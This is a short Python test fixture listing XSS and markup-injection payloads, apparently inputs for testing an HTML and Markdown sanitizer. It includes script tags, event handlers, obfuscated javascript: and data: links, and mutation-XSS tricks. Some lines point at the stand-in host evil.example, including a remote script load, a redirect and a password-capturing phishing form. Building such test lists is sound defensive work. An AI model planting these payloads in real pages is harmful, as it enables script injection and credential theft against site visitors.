"""Markup that means harm, as it has been pasted into forms elsewhere."""

HOSTILE = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.gif">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>
<math href="javascript:alert(1)">x</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example"><input name=password><button>登录</button></form>
<a href="javascript:alert(1)">点我</a>
<a href=" javascript:alert(1)">点我</a>
<a href="java&#9;script:alert(1)">点我</a>
<a href="java&#x0A;script:alert(1)">点我</a>
<a href="JaVaScRiPt:alert(1)">点我</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>
<a href="vbscript:msgbox(1)">点我</a>
<a href="//evil.example">点我</a>
<a href="/me/erase">点我</a>
<a href="https://a.example" onclick="alert(1)" style="position:fixed;inset:0">点我</a>
<a href="https://a.example" target="_blank" id="unsent" class="button main">点我</a>
<p style="background:url(https://evil.example/x)">x</p>
<p onmouseover=alert(1)>x</p>
<div class="band bad" role="alert">您的账号有风险，请登录</div>
<style>body{display:none}</style>
<link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<body onload=alert(1)>
<video><source onerror=alert(1)></video>
<details open ontoggle=alert(1)>x</details>
<template><script>alert(1)</script></template>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><script>alert(1)</script>
<textarea><script>alert(1)</script></textarea>
<title><script>alert(1)</script></title>
<!--><script>alert(1)</script-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<p>没有合上<b><i>
</article></main></body></html><h1>另一页</h1>
<ol start="javascript:alert(1)"><li>x</ol>
<h2 id="main" name="getElementById">x</h2>
&lt;script&gt;alert(1)&lt;/script&gt;
[点我](javascript:alert(1))
[点我](JAVASCRIPT:alert(1))
[点我](<javascript:alert(1)>)
[点我](data:text/html,x)
[点我](https://a.example "onmouseover=alert(1)")
[点我](https://a.example/"onmouseover="alert(1))
[点我](//evil.example)
![图](https://evil.example/pixel.gif)
<https://evil.example/<script>alert(1)</script>>
[x]: javascript:alert(1)
""".strip().splitlines()
